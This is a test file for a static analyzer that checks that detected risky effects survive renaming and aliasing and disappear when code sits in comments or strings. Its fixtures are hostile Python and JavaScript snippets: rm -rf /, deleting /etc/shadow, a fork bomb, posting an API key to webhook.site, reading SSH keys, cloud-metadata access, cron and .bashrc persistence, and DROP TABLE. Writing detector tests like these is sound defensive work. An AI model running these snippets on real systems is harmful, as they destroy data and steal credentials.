/** INVARIANT 5: effects follow the meaning. Names, aliases and layout change nothing; the same words as data mean nothing. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { loadOrdinary, loadPublished } from "../../cases/load-cases.ts";
import { programOf } from "./analyze-source.ts";
import { aliasCalls, inComment, inString, type Rewritable, renameLocals } from "./rewrite.ts";

/** name -> a program with at least one risky effect. */
const PYTHON: Readonly<Record<string, string>> = {
  "delete the root": 'import shutil\npath = "/"\nshutil.rmtree(path)\n',
  "shell command": 'import os\ncommand = "rm -rf /"\nos.system(command)\n',
  "command built from parts": 'import subprocess\nparts = ["rm", "-r" + "f", "/"]\nsubprocess.run(parts)\n',
  "shell with a hole": 'import subprocess\nname = input()\nsubprocess.run("ls " + name, shell=True)\n',
  "decoded payload": 'import base64\nblob = "cHJpbnQoMSk="\npayload = base64.b64decode(blob)\nexec(payload)\n',
  "computed attribute": 'import os\nwhich = "sys" + "tem"\nrunner = getattr(os, which)\nrunner("rm -rf /")\n',
  "dict of functions": 'import os\ntable = {"go": os.system}\ntable["go"]("rm -rf /")\n',
  closure: 'import os\ndef make(target):\n    def act():\n        os.remove(target)\n    return act\nact2 = make("/etc/shadow")\nact2()\n',
  "own decorator":
    'import os\ndef wrap(fn):\n    def inner(*args):\n        return fn(*args)\n    return inner\n@wrap\ndef work(target):\n    os.remove(target)\nwork("/etc/shadow")\n',
  "own class":
    'import os\nclass Cleaner:\n    def __init__(self, target):\n        self.target = target\n    def run(self):\n        os.remove(self.target)\ncleaner = Cleaner("/etc/shadow")\ncleaner.run()\n',
  "loop over paths": 'import os\npaths = ["/etc/shadow", "/root/.ssh/id_rsa"]\nfor each in paths:\n    os.remove(each)\n',
  "loop that decodes":
    'import os\ncodes = [114, 109, 32, 45, 114, 102, 32, 47]\nline = ""\nfor code in codes:\n    line += chr(code)\nos.system(line)\n',
  comprehension: 'import os\ntargets = ["shadow"]\n[os.remove("/etc/" + t) for t in targets]\n',
  lambda: 'import os\nact = lambda target: os.remove(target)\nact("/etc/shadow")\n',
  generator: 'import os\ndef names():\n    yield "/etc/shadow"\nfor one in names():\n    os.remove(one)\n',
  "latent function": 'import shutil\ndef clean(root="/"):\n    shutil.rmtree("/")\n',
  "latent with a parameter": "import shutil\ndef clean(root):\n    shutil.rmtree(root)\n",
  "secret to the network": 'import os, requests\nkey = os.environ["API_KEY"]\nrequests.post("https://webhook.site/x", data=key)\n',
  "cloud metadata": 'import requests\nhost = "169.254.169.254"\nurl = "http://" + host + "/latest"\nrequests.get(url)\n',
  "read credentials": 'from pathlib import Path\nhome = Path.home()\nkey = (home / ".ssh" / "id_rsa").read_text()\n',
  "write persistence": 'import os\nwhere = os.path.expanduser("~/.bashrc")\nwith open(where, "a") as out:\n    out.write("x")\n',
  "drop table":
    'import sqlite3\nconnection = sqlite3.connect("a.db")\ncursor = connection.cursor()\nstatement = "DROP TABLE users"\ncursor.execute(statement)\n',
  "delete every row": 'import sqlite3\nconnection = sqlite3.connect("a.db")\nconnection.execute("DELETE FROM users WHERE 1=1")\n',
  "decrease a balance": "def withdraw(amount):\n    account.balance -= amount\nwithdraw(100)\n",
  "transfer money": "amount = 500000\ntransfer_money(source, destination, amount)\n",
  "patch a library": "import json\ndef fake(text):\n    return {}\njson.loads = fake\n",
  "fork bomb in a shell": 'import os\nbomb = ":(){ :|:& };:"\nos.system(bomb)\n',
  "try and with":
    'import os\ntry:\n    with open("a.txt") as handle:\n        text = handle.read()\nexcept OSError as problem:\n    os.remove("/etc/shadow")\n',
  "global variable": 'import os\ntarget = "a"\ndef change():\n    global target\n    target = "/etc/shadow"\nchange()\nos.remove(target)\n',
  deserialise: 'import pickle\nhandle = open("data.pkl", "rb")\nvalue = pickle.load(handle)\n',
  "kill by name": 'import subprocess\nprogram = "killall"\nsubprocess.call([program, "node"])\n',
};
const JAVASCRIPT: Readonly<Record<string, string>> = {
  "delete the root": 'const fs = require("fs");\nconst target = "/";\nfs.rmSync(target, { recursive: true });\n',
  "shell command": 'const cp = require("child_process");\nconst command = "rm -rf /";\ncp.execSync(command);\n',
  spawn: 'const { spawn } = require("child_process");\nconst list = ["-rf", "/"];\nspawn("rm", list);\n',
  "shell with a hole": 'const cp = require("child_process");\nconst name = process.argv[2];\ncp.exec(`ls ${name}`);\n',
  "decoded payload": 'const blob = "MSsx";\nconst text2 = atob(blob);\neval(text2);\n',
  "Function of a literal": 'const body = "return 1";\nconst made = new Function(body);\nmade();\n',
  "computed member": 'const fs = require("fs");\nconst which = "unlink" + "Sync";\nfs[which]("/etc/shadow");\n',
  "object of functions": 'const fs = require("fs");\nconst table = { go: (p) => fs.unlinkSync(p) };\ntable.go("/etc/shadow");\n',
  closure:
    'const fs = require("fs");\nfunction make(target) {\n  return function () {\n    fs.unlinkSync(target);\n  };\n}\nconst act = make("/etc/shadow");\nact();\n',
  "own class":
    'const fs = require("fs");\nclass Cleaner {\n  constructor(target) {\n    this.target = target;\n  }\n  run() {\n    fs.unlinkSync(this.target);\n  }\n}\nconst cleaner = new Cleaner("/etc/shadow");\ncleaner.run();\n',
  "loop over paths": 'const fs = require("fs");\nconst paths = ["/etc/shadow"];\nfor (const each of paths) {\n  fs.unlinkSync(each);\n}\n',
  "loop that decodes":
    'const cp = require("child_process");\nconst codes = [114, 109, 32, 45, 114, 102, 32, 47];\nlet line = "";\nfor (const code of codes) {\n  line += String.fromCharCode(code);\n}\ncp.execSync(line);\n',
  "array methods":
    'const fs = require("fs");\nconst names = ["shadow"];\nnames.map((n) => "/etc/" + n).forEach((p) => fs.unlinkSync(p));\n',
  "promise chain": 'const fs = require("fs");\nconst start = Promise.resolve("/etc/shadow");\nstart.then((p) => fs.unlinkSync(p));\n',
  "async function":
    'import { rm } from "node:fs/promises";\nasync function go(target) {\n  await rm(target, { recursive: true });\n}\ngo("/");\n',
  "latent export": 'import fs from "fs";\nexport function clean(target) {\n  fs.rmSync("/", { recursive: true });\n}\n',
  "secret to the network": 'const key = process.env.API_KEY;\nfetch("https://webhook.site/x", { method: "POST", body: key });\n',
  "cloud metadata": 'const host = "169.254.169.254";\nfetch("http://" + host + "/latest");\n',
  "read credentials":
    'const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\nconst where = path.join(os.homedir(), ".ssh", "id_rsa");\nconst key = fs.readFileSync(where);\n',
  "write persistence": 'const fs = require("fs");\nconst where = "/etc/cron.d/job";\nfs.writeFileSync(where, "x");\n',
  "drop table":
    'const { Pool } = require("pg");\nconst pool = new Pool();\nconst statement = "DROP TABLE users";\npool.query(statement);\n',
  "delete every row":
    'const { Pool } = require("pg");\nconst pool = new Pool();\nconst statement = "DELETE FROM users";\npool.query(statement);\n',
  "decrease a balance": "function withdraw(amount) {\n  account.balance -= amount;\n}\nwithdraw(100);\n",
  "transfer money": "const amount = 500000;\ntransferMoney(source, destination, amount);\n",
  "patch a library": "const fake = (text) => ({});\nJSON.parse = fake;\n",
  "timer with text": 'const later = "1";\nsetTimeout(later, 10);\n',
  destructuring: 'const { unlinkSync: erase } = require("fs");\nconst [first] = ["/etc/shadow"];\nerase(first);\n',
  "spread and rest": 'const fs = require("fs");\nfunction act(...all) {\n  fs.unlinkSync(...all);\n}\nact("/etc/shadow");\n',
  getter: 'const fs = require("fs");\nconst box = { get go() { return fs.unlinkSync; } };\nbox.go("/etc/shadow");\n',
  "switch and try":
    'const fs = require("fs");\nconst mode = process.argv[2];\ntry {\n  switch (mode) {\n    case "x": {\n      fs.unlinkSync("/etc/shadow");\n    }\n  }\n} catch (problem) {\n  fs.unlinkSync("/etc/passwd");\n}\n',
};

/** Kinds with their target classes; which library function is not modelled is no effect. */
function meaning(code: string, language: Rewritable): string[] {
  const effects = programOf(code, language).effects.filter((e) => e.kind !== "call.unmodelled");
  return [...new Set(effects.map((e) => `${e.kind} <${[...e.targetClasses].sort().join(" ")}>`))].sort();
}

const REWRITES: Readonly<Record<string, (code: string, language: Rewritable) => string>> = {
  "other names": renameLocals,
  "aliased calls": aliasCalls,
  "aliased calls under other names": (code, language) => renameLocals(aliasCalls(code, language), language),
};

for (const [language, programs] of [["python", PYTHON] as const, ["javascript", JAVASCRIPT] as const])
  describe(`effects follow the meaning (${language})`, () => {
    for (const [name, code] of Object.entries(programs)) {
      for (const [how, rewrite] of Object.entries(REWRITES)) {
        const rewritten = rewrite(code, language);
        if (rewritten !== code)
          test(`${name}: ${how}`, () => assert.deepEqual(meaning(rewritten, language), meaning(code, language), rewritten));
      }
      test(`${name}: as a comment and as a string`, () => {
        assert.ok(meaning(code, language).length > 0, "the program has no effect of its own");
        assert.deepEqual(meaning(inComment(code, language), language), []);
        assert.deepEqual(meaning(inString(code, language), language), []);
      });
    }
    test("nearly every program is really rewritten", () => {
      for (const [how, rewrite] of Object.entries(REWRITES)) {
        const same = Object.entries(programs).filter(([, code]) => rewrite(code, language) === code);
        assert.ok(same.length <= 3, `${how} leaves alone: ${same.map(([name]) => name).join(", ")}`);
      }
    });
  });

describe("the corpora under other names", () => {
  for (const { id, code, language } of [...loadPublished(), ...loadOrdinary()]) {
    if (language === "typescript") continue;
    test(id, () => {
      const rewritten = renameLocals(code, language);
      assert.deepEqual(meaning(rewritten, language), meaning(code, language), rewritten);
    });
  }
});
